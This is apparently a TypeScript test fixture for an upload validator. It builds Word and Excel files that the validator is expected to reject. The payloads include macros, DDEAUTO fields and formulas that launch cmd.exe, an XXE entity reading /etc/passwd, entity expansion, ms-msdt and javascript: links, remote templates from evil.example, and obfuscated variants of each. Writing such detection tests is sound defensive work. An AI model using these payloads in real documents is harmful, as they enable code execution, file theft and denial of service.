import type { BuiltPart } from './build-zip.ts';
import { buildDocx, buildXlsx, documentXml, relsXml, sheetXml, typesXml } from './build-office.ts';
import { type HostileFile, rejected } from './hostile-file.ts';
import { scannerTryOut } from './scanner-try-out.ts';

const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]);
const outside = ' TargetMode="External"';
const rels = 'word/_rels/document.xml.rels';
const docxWith = (...parts: BuiltPart[]): Buffer => buildDocx(parts);
const body = (xml: string): Buffer => buildDocx([{ path: 'word/document.xml', content: documentXml(xml) }]);
const cell = (xml: string): Buffer => buildXlsx([{ path: 'xl/worksheets/sheet1.xml', content: sheetXml(xml) }]);
const relation = (kind: string, target: string, mode = outside): Buffer => docxWith({ path: rels, content: relsXml(kind, target, mode) });
const field = (...words: string[]): string =>
  words.map((word) => `<w:r><w:instrText xml:space="preserve">${word}</w:instrText></w:r>`).join('');
const entity = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>';
const laughs = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>';

/** Documents and workbooks that act, carry or fetch. */
export const activeOffice: readonly HostileFile[] = [
  rejected('macros of a document', 'docx', () => docxWith({ path: 'word/vbaProject.bin', content: ole }), 'macros'),
  rejected('macros of a workbook', 'xlsx', () => buildXlsx([{ path: 'xl/vbaProject.bin', content: ole }]), 'macros'),
  rejected('macros under another name', 'docx', () => docxWith({ path: 'word/media/image1.bin', content: ole }), 'embedded-file'),
  rejected('macros in capitals', 'docx', () => docxWith({ path: 'word/VBAPROJECT.BIN', content: 'x' }), 'macros'),
  rejected(
    'document with macros by its kind',
    'docx',
    () =>
      docxWith({
        path: '[Content_Types].xml',
        content: typesXml('word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      }),
    'macros',
  ),
  rejected(
    'list of types with macros written in numbers',
    'docx',
    () =>
      docxWith({
        path: '[Content_Types].xml',
        content: typesXml('word/document.xml', 'application/vnd.ms-word.document.macro&#69;nabled.main+xml'),
      }),
    'macros',
  ),
  rejected('relation to macros', 'docx', () => relation('vbaProject', 'media/image1.bin', ''), 'macros'),
  rejected('macro sheet of an old kind', 'xlsx', () => buildXlsx([{ path: 'xl/macrosheets/sheet1.xml', content: '<a/>' }]), 'macros'),
  rejected('control', 'docx', () => docxWith({ path: 'word/activeX/activeX1.xml', content: '<ax/>' }), 'active-content'),
  rejected(
    'ribbon of its own',
    'docx',
    () => docxWith({ path: 'customUI/customUI14.xml', content: '<customUI onLoad="x"/>' }),
    'active-content',
  ),
  rejected('embedded object', 'docx', () => docxWith({ path: 'word/embeddings/oleObject1.bin', content: ole }), 'embedded-file'),
  rejected('embedded program', 'docx', () => docxWith({ path: 'word/media/setup.exe', content: 'MZ' }), 'embedded-file'),
  rejected('program as a picture', 'docx', () => docxWith({ path: 'word/media/image1.png', content: 'MZ\x90\0' }), 'embedded-file'),
  rejected(
    'page as a picture',
    'docx',
    () => docxWith({ path: 'word/media/image1.png', content: '\n <script>x</script>' }),
    'embedded-file',
  ),
  rejected('PDF as a picture', 'docx', () => docxWith({ path: 'word/media/image1.png', content: '%PDF-1.7' }), 'embedded-file'),
  rejected('page that is taken in', 'docx', () => docxWith({ path: 'word/afchunk1.mht', content: 'x' }), 'embedded-file'),
  rejected('template from elsewhere', 'docx', () => relation('attachedTemplate', 'http://evil.example/t.dotm'), 'external-reference'),
  rejected(
    'template from a server of files',
    'docx',
    () => relation('attachedTemplate', String.raw`\\evil.example\t.dotm`),
    'external-reference',
  ),
  rejected('picture from elsewhere', 'docx', () => relation('image', 'http://evil.example/p.png'), 'external-reference'),
  rejected('frame from elsewhere', 'docx', () => relation('frame', 'http://evil.example/'), 'external-reference'),
  rejected('object from elsewhere', 'docx', () => relation('oleObject', 'mhtml:http://evil.example/!x'), 'embedded-file'),
  rejected('link to a program', 'docx', () => relation('hyperlink', 'file:///C:/Windows/System32/calc.exe'), 'external-reference'),
  rejected('link to a diagnosis tool', 'docx', () => relation('hyperlink', 'ms-msdt:/id PCWDiagnostic'), 'external-reference'),
  rejected('link to a script', 'docx', () => relation('hyperlink', 'javascript:alert(1)'), 'external-reference'),
  rejected(
    'picture from elsewhere, mode in numbers',
    'docx',
    () => relation('image', 'http://evil.example/', ' TargetMode="&#69;xternal"'),
    'external-reference',
  ),
  rejected(
    'picture from elsewhere, mode behind an angle',
    'docx',
    () => relation('image', 'http://evil.example/?a>b', ' TargetMode = &quot;External&quot;'.replaceAll('&quot;', "'")),
    'external-reference',
  ),
  rejected(
    'picture from elsewhere, far spaced',
    'docx',
    () => relation('image', 'http://evil.example/', ` TargetMode${' '.repeat(99)}=${'\n'.repeat(99)}"External"`),
    'external-reference',
  ),
  rejected(
    'workbook that takes from another',
    'xlsx',
    () => buildXlsx([{ path: 'xl/externalLinks/externalLink1.xml', content: '<externalLink/>' }]),
    'external-reference',
  ),
  rejected(
    'field that starts a program',
    'docx',
    () => body(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
    'active-content',
  ),
  rejected('field that starts a program, in pieces', 'docx', () => body(field('DD', 'EAU', 'TO cmd')), 'active-content'),
  rejected('field that starts a program, in numbers', 'docx', () => body(field('&#68;DE cmd "/k calc"')), 'active-content'),
  rejected('simple field that starts a program', 'docx', () => body('<w:fldSimple w:instr="DDE cmd"/>'), 'active-content'),
  rejected('field under another prefix', 'docx', () => body('<x:instrText>DDEAUTO cmd</x:instrText>'), 'active-content'),
  rejected('formula that starts a program', 'xlsx', () => cell(`<f>cmd|'/c calc'!A0</f>`), 'active-content'),
  rejected('formula that starts a program, in entities', 'xlsx', () => cell('<f>cmd&#124;&apos;/c calc&apos;!A0</f>'), 'active-content'),
  rejected(
    'link of cells to a program',
    'xlsx',
    () => buildXlsx([{ path: 'xl/connections.xml', content: '<ddeLink ddeService="cmd"/>' }]),
    'active-content',
  ),
  rejected('entity that reads a file', 'docx', () => docxWith({ path: 'word/settings.xml', content: entity }), 'active-content'),
  rejected('entities that multiply', 'xlsx', () => buildXlsx([{ path: 'xl/styles.xml', content: laughs }]), 'active-content'),
  rejected(
    'XML in another encoding',
    'docx',
    () => docxWith({ path: 'word/document.xml', content: Buffer.from(`\uFEFF${documentXml('')}`, 'utf16le') }),
    'damaged',
  ),
  rejected(
    'XML that says it is in another encoding',
    'docx',
    () => docxWith({ path: 'word/document.xml', content: '<?xml version="1.0" encoding="utf-7"?><a/>' }),
    'damaged',
  ),
  rejected(
    'try-out of scanners in a document',
    'docx',
    () => docxWith({ path: 'word/media/image1.bin', content: scannerTryOut }),
    'malware',
  ),
  rejected(
    'try-out of scanners in a stored part',
    'xlsx',
    () => buildXlsx([{ path: 'xl/media/image1.bin', content: scannerTryOut, stored: true }]),
    'malware',
  ),
  rejected('try-out of scanners in a style', 'docx', () => docxWith({ path: 'word/styles.xml', content: scannerTryOut }), 'malware'),
];
